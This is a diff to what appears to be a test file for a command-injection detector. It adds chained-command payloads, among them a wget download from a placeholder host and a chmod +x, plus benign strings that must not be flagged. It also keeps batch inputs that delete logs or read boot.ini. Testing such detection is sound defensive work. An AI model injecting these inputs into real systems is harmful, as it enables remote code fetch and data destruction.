@@ -10,11 +10,14 @@ describe('cmdi: cmd.exe FOR and IF forms', () => {
     ['cmdi.batch-for', 'for %file in (*.log) do del %file'],
     ['cmdi.batch-if', 'if/i %x%==y del c:\\a'],
     ['cmdi.batch-if', 'if "a b" == "a b" type c:\\boot.ini'],
+    ['cmdi.chained-command', '; wget https://dl.example.net/x.sh'],
+    ['cmdi.chained-command', '& ping 192.0.2.7'],
+    ['cmdi.chained-command', '; chmod +x run.sh'],
   ])('%s: %s', (id, v) => {
     expect(rules(v)).toContain(id);
   });
 
-  it.each(['for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
+  it.each(['ping 192.0.2.7', 'Meet at 5; ping me at 192.0.2.7 if needed', 'Read the docs; see https://example.com', 'I tried wget; curl is nicer', 'for 5% in (most) cases', 'Verify if the total == 5', 'if you want, == means equal'])('passes: %s', (v) => {
     const r = inspector.inspect(query(v));
     expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
   });
